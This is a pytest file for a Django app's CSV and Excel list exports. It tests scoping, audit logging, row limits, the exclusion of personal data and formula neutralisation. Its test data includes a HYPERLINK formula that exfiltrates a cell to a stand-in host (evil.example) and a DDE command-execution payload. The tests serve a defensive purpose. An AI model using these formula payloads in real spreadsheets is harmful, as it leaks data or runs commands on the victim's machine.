"""CSV and Excel exports of lists (governance.exports, governance.api.exports): the files open right
in a spreadsheet, hold only what the list shows its user, are refused over the row limit, are
audited, never carry personal data; the API's ``?format=csv|xlsx`` on a view with ExportMixin."""

from __future__ import annotations

import csv
import datetime
import io

import django_filters
import openpyxl
import pytest
from django.db.models import Prefetch
from django.test import Client
from django.urls import path, reverse
from django.utils import translation
from django_filters.rest_framework import DjangoFilterBackend
from drf_spectacular.drainage import GENERATOR_STATS
from drf_spectacular.generators import SchemaGenerator
from drf_spectacular.validation import validate_schema
from rest_framework import filters, generics, serializers
from rest_framework.test import APIClient

from governance.api.exports import ExportMixin
from governance.api.views import ApiMixin
from governance.exports import AUDIT_ACTION, export_response
from governance.models import AuditEntry, Department, DepartmentKind, Parameter
from governance.roles import Role
from governance.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))


def csv_rows(response) -> list[list[str]]:
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff"), "Excel on Chinese Windows reads UTF-8 only with a BOM"
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.getvalue())).active


def xlsx_rows(response) -> list[list]:
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


@pytest.fixture
def client():
    return Client(headers={"Accept-Language": "en"})


# --- The files -------------------------------------------------------------------------------------

COLUMNS = [("number", "编号"), ("title", "标题"), ("at", "上报时间"), ("urgent", "紧急"), ("count", "次数"),
           ("none", "空")]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ROWS = [
    {"number": "A-1", "title": EVIL, "at": datetime.datetime(2024, 5, 1, 2, 30, tzinfo=datetime.UTC),
     "urgent": True, "count": 3, "none": None},
    {"number": "A-2", "title": "+86 不是公式", "at": None, "urgent": False, "count": 0, "none": "-1"},
    {"number": "A-3", "title": "@SUM(1)", "at": None, "urgent": False, "count": 1, "none": "\tx"},
]


def test_it_streams_csv_with_a_bom_local_times_and_no_formulas():
    with translation.override("en"):
        response = export_response(ROWS, COLUMNS, filename="案件-20240501", fmt="csv")
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert rows[0] == ["编号", "标题", "上报时间", "紧急", "次数", "空"]
    assert rows[1] == ["A-1", "'" + EVIL, "2024-05-01 10:30:00", "yes", "3", ""]  # Asia/Shanghai, no offset
    assert rows[2] == ["A-2", "'+86 不是公式", "", "no", "0", "'-1"]
    assert rows[3][1] == "'@SUM(1)" and rows[3][5] == "'\tx"


def test_it_writes_excel_with_a_bold_frozen_header_real_times_and_no_formulas():
    response = export_response(ROWS, COLUMNS, filename="案件-20240501", fmt="xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = xlsx_sheet(response)
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b and not sheet["A2"].font.b
    assert [c.value for c in sheet[1]] == ["编号", "标题", "上报时间", "紧急", "次数", "空"]
    assert sheet["C2"].value == datetime.datetime(2024, 5, 1, 10, 30)  # a real date-time, local, naive
    assert sheet["C2"].is_date
    assert sheet["E2"].value == 3  # numbers stay numbers
    assert sheet["B2"].value == "'" + EVIL and sheet["B2"].data_type == "s"  # text, never a formula
    assert sheet["B3"].value == "'+86 不是公式"
    assert sheet["D2"].value == "是"  # the page's language (Chinese by default)
    assert all(sheet.column_dimensions[letter].width >= 8 for letter in "ABCDEF")
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width  # sized to the text


def test_characters_excel_refuses_are_dropped_not_fatal():
    response = export_response([{"t": "a\x00b\x0bc"}], [("t", "T")], filename="x", fmt="xlsx")
    assert xlsx_rows(response)[1] == ["abc"]


def test_the_file_name_is_chinese_with_an_ascii_fallback():
    response = export_response([], COLUMNS, filename="案件-20240501.csv", fmt="csv",
                               ascii_filename="dispatch.workbench-20240501.csv")
    assert response["Content-Disposition"] == (
        "attachment; filename=\"dispatch.workbench-20240501.csv\"; "
        "filename*=UTF-8''%E6%A1%88%E4%BB%B6-20240501.csv"
    )
    response = export_response([], COLUMNS, filename="网格", fmt="xlsx")
    assert response["Content-Disposition"].startswith('attachment; filename="export.xlsx"; filename*=UTF-8')
    assert csv_rows(export_response([], COLUMNS, filename="x", fmt="csv")) == [[label for _k, label in COLUMNS]]


# --- Page lists: units and departments --------------------------------------------------------------


def test_the_unit_list_exports_only_the_users_jurisdiction(client, tree, persona):
    client.force_login(persona(Role.STREET_OPERATOR, unit=tree.street_a))
    page = client.get(reverse("governance:unit_list"))
    assert "?export=csv" in page.content.decode() and "?export=xlsx" in page.content.decode()
    rows = csv_rows(client.get(reverse("governance:unit_list"), {"export": "csv"}))
    assert rows[0] == ["Division code", "Name", "Kind", "Level", "Parent unit"]
    assert [r[0] for r in rows[1:]] == [tree.street_a.code, tree.community_a.code]
    assert rows[2][4] == tree.street_a.name
    sheet_rows = xlsx_rows(client.get(reverse("governance:unit_list"), {"export": "xlsx"}))
    assert [r[0] for r in sheet_rows[1:]] == [tree.street_a.code, tree.community_a.code]


def test_someone_without_a_role_exports_an_empty_list_and_anonymous_is_sent_to_sign_in(client, tree):
    client.force_login(UserFactory())
    assert len(csv_rows(client.get(reverse("governance:department_list"), {"export": "csv"}))) == 1
    assert len(csv_rows(client.get(reverse("governance:unit_list"), {"export": "csv"}))) == 1
    client.logout()
    response = client.get(reverse("governance:unit_list"), {"export": "csv"})
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_the_department_list_exports_scoped_without_phones_and_is_audited(client, tree, persona):
    Department.objects.filter(pk=tree.office_b.pk).update(phone="0571-88886666")
    street_b = persona(Role.STREET_OPERATOR, unit=tree.street_b)
    client.force_login(street_b)
    response = client.get(reverse("governance:department_list"), {"export": "csv"})
    rows = csv_rows(response)
    assert rows == [["Name", "Short name", "Kind", "Unit", "Supervising department", "Active"],
                    [tree.office_b.name, "", str(DepartmentKind.STREET_OFFICE.label), tree.street_b.name, "", "yes"]]
    assert "88886666" not in response.getvalue().decode()
    entry = AuditEntry.objects.get(action=AUDIT_ACTION)
    assert entry.actor == street_b
    assert entry.data == {"list": "governance.departments", "format": "csv", "rows": 1, "filters": {},
                          "channel": "page"}
    client.force_login(persona(Role.STREET_OPERATOR, unit=tree.street_a))
    assert len(csv_rows(client.get(reverse("governance:department_list"), {"export": "csv"}))) == 1


def test_an_unknown_format_shows_the_page(client, tree, persona):
    client.force_login(persona(Role.DISTRICT_DISPATCHER))
    response = client.get(reverse("governance:department_list"), {"export": "pdf"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize("how", ["parameter", "setting"])
def test_over_the_row_limit_the_page_says_to_narrow_the_filters(client, tree, persona, settings, how):
    if how == "parameter":
        Parameter.objects.create(key="governance.export_max_rows", value=1)
    else:
        settings.EXPORT_MAX_ROWS = 1
    client.force_login(persona(Role.DISTRICT_DISPATCHER))
    url = reverse("governance:department_list")
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 302 and response["Location"] == url
    page = client.get(response["Location"]).content.decode()
    assert "This list has 2 rows; an export holds at most 1. Narrow the filters and export again." in page
    assert not AuditEntry.objects.filter(action=AUDIT_ACTION).exists()


# --- The API: a list view with ExportMixin ------------------------------------------------------------


class UnitRef(serializers.Serializer):
    id = serializers.IntegerField()
    name = serializers.CharField()


class DepartmentOutput(serializers.ModelSerializer):
    kind_label = serializers.CharField(source="get_kind_display")
    unit = UnitRef()
    supervisor = UnitRef(allow_null=True)
    subordinates = serializers.StringRelatedField(many=True)

    class Meta:
        model = Department
        fields = ["id", "name", "kind", "kind_label", "unit", "supervisor", "phone", "subordinates", "is_active"]


class DepartmentFilter(django_filters.FilterSet):
    kind = django_filters.ChoiceFilter(choices=DepartmentKind.choices)

    class Meta:
        model = Department
        fields: list[str] = []


class DepartmentList(ExportMixin, ApiMixin, generics.ListAPIView):
    """Departments in the user's jurisdiction (a test view in the shape of the apps' lists)."""

    required_scopes = {"read": "grids:read"}
    serializer_class = DepartmentOutput
    filter_backends = [DjangoFilterBackend, filters.OrderingFilter]
    filterset_class = DepartmentFilter
    ordering_fields = ["name"]
    ordering = ["name", "pk"]
    export_name = "test.departments"

    def get_queryset(self):
        from governance.selectors import departments_visible_to

        return departments_visible_to(self.request.user).select_related("unit", "supervisor").prefetch_related(
            Prefetch("subordinates", queryset=Department.objects.order_by("name")))


urlpatterns = [path("api/v1/test/departments/", DepartmentList.as_view(), name="departments")]
URL = "/api/v1/test/departments/"


@pytest.fixture
def departments(tree):
    """Three departments in the district besides the tree's (bureau in the district, office in street B)."""
    police = Department.objects.create(name="测试公安分局", unit=tree.district, phone="110")
    Department.objects.create(name="甲派出所", unit=tree.street_a, kind=DepartmentKind.POLICE_STATION,
                              supervisor=police, phone="13812345678")
    Department.objects.create(name="=cmd|' /C calc'!A0", unit=tree.street_a)
    return tree


def api_for(user) -> APIClient:
    api = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    api.force_authenticate(user)
    return api


@pytest.mark.urls(__name__)
def test_format_csv_exports_every_row_of_the_filtered_list_flattened(departments, persona, settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "PAGE_SIZE": 2}
    api = api_for(persona(Role.DISTRICT_DISPATCHER))
    assert len(api.get(URL, {"page_size": 2}).json()["results"]) == 2  # the JSON list is paginated …
    response = api.get(URL, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header == ["ID", "Name", "Kind (code)", "Kind", "Unit · ID", "Unit · Name",
                      "Supervising department · ID", "Supervising department · Name", "Subordinates", "Active"]
    assert len(body) == 5  # … the export is not
    by_name = {r[1]: r for r in body}
    assert by_name["甲派出所"][4:8] == [str(departments.street_a.pk), departments.street_a.name,
                                     by_name["测试公安分局"][0], "测试公安分局"]
    assert by_name["测试公安分局"][8] == "甲派出所"  # lists joined
    assert "'=cmd|' /C calc'!A0" in by_name  # formula neutralised
    assert "13812345678" not in response.getvalue().decode()  # personal data never exported
    assert [r[1] for r in csv_rows(api.get(URL, {"format": "csv", "kind": "police_station"}))[1:]] == ["甲派出所"]
    assert [r[1] for r in csv_rows(api.get(URL, {"format": "csv", "ordering": "-name"}))[1:]] == sorted(
        by_name, reverse=True)
    entry = AuditEntry.objects.filter(action=AUDIT_ACTION).latest("pk")
    assert entry.data == {"list": "test.departments", "format": "csv", "rows": 5,
                          "filters": {"ordering": "-name"}, "channel": "api"}


@pytest.mark.urls(__name__)
def test_format_xlsx_and_the_accept_header_and_json_still_json(departments, persona):
    api = api_for(persona(Role.DISTRICT_DISPATCHER))
    response = api.get(URL, {"format": "xlsx"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    rows = xlsx_rows(response)
    assert rows[0][1] == "Name" and len(rows) == 6
    assert api.get(URL, HTTP_ACCEPT="text/csv")["Content-Type"] == "text/csv; charset=utf-8"
    for response in (api.get(URL, {"format": "json"}), api.get(URL, HTTP_ACCEPT="application/json"), api.get(URL)):
        assert response["Content-Type"] == "application/json" and len(response.json()["results"]) == 5


@pytest.mark.urls(__name__)
def test_the_export_is_scoped_like_the_list(departments, persona, token_for):
    street_b = persona(Role.STREET_OPERATOR, unit=departments.street_b)
    assert [r[1] for r in csv_rows(api_for(street_b).get(URL, {"format": "csv"}))[1:]] == [departments.office_b.name]
    assert len(csv_rows(api_for(UserFactory()).get(URL, {"format": "csv"}))) == 1  # no jurisdiction: header only
    token = token_for(street_b, scopes=["grids:read"])
    assert [r[1] for r in csv_rows(token.get(URL, {"format": "csv"}))[1:]] == [departments.office_b.name]
    assert AuditEntry.objects.filter(action=AUDIT_ACTION).latest("pk").data["channel"] == \
        f"api:{token.api_client.name}"


@pytest.mark.urls(__name__)
def test_refusals_answer_in_the_json_error_format_not_as_a_file(departments, persona, token_for):
    anonymous = APIClient(HTTP_ACCEPT_LANGUAGE="en").get(URL, {"format": "csv"})
    assert anonymous.status_code in (401, 403) and anonymous["Content-Type"] == "application/json"
    assert anonymous.json()["error"]["code"] == "not_authenticated"
    no_scope = token_for(persona(Role.DISTRICT_DISPATCHER), scopes=["dispatch:read"]).get(URL, {"format": "xlsx"})
    assert no_scope.status_code == 403 and no_scope.json()["error"]["code"] == "permission_denied"
    bad_filter = api_for(persona(Role.DISTRICT_DISPATCHER)).get(URL, {"format": "csv", "kind": "castle"})
    assert bad_filter.status_code == 400 and "kind" in bad_filter.json()["error"]["fields"]
    bad_format = api_for(persona(Role.DISTRICT_DISPATCHER)).get(URL, {"format": "pdf"})
    assert bad_format.status_code == 400 and bad_format["Content-Type"] == "application/json"
    assert bad_format.json()["error"]["fields"] == {"format": ["Choose one of: json, csv, xlsx."]}


@pytest.mark.urls(__name__)
def test_over_the_row_limit_the_api_answers_400_export_too_large(departments, persona):
    Parameter.objects.create(key="governance.export_max_rows", value=4)
    response = api_for(persona(Role.DISTRICT_DISPATCHER)).get(URL, {"format": "csv"})
    assert response.status_code == 400 and response["Content-Type"] == "application/json"
    error = response.json()["error"]
    assert error["code"] == "export_too_large" and "Narrow the filters" in error["message"]
    assert not AuditEntry.objects.filter(action=AUDIT_ACTION).exists()


@pytest.mark.urls(__name__)
def test_the_export_reads_in_chunks_with_the_views_related_rows(departments, persona, django_assert_max_num_queries,
                                                                monkeypatch):
    monkeypatch.setattr("governance.api.exports.CHUNK_SIZE", 2)
    api = api_for(persona(Role.DISTRICT_DISPATCHER))
    # The scope (2), the count, the limit, the audit row, the rows (one query, read in chunks of 2) and
    # each chunk's subordinates (3): no query per row.
    with django_assert_max_num_queries(9):
        rows = csv_rows(api.get(URL, {"format": "csv"}))
    assert len(rows) == 6
    assert rows[1:] == csv_rows(api.get(URL, {"format": "csv", "page_size": 1}))[1:]


def test_the_schema_documents_the_files_and_stays_valid():
    GENERATOR_STATS.reset()
    schema = SchemaGenerator(patterns=urlpatterns).get_schema(request=None, public=True)
    assert not GENERATOR_STATS, "schema generation warned"
    validate_schema(schema)
    operation = schema["paths"][URL]["get"]
    assert {"name": "format", "in": "query"}.items() <= next(
        p for p in operation["parameters"] if p["name"] == "format").items()
    content = operation["responses"]["200"]["content"]
    assert set(content) == {"application/json", "text/csv",
                            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
    assert content["application/json"]["schema"]["$ref"].endswith("PaginatedDepartmentOutputList")
    assert content["text/csv"]["schema"] == {"type": "string", "format": "binary"}
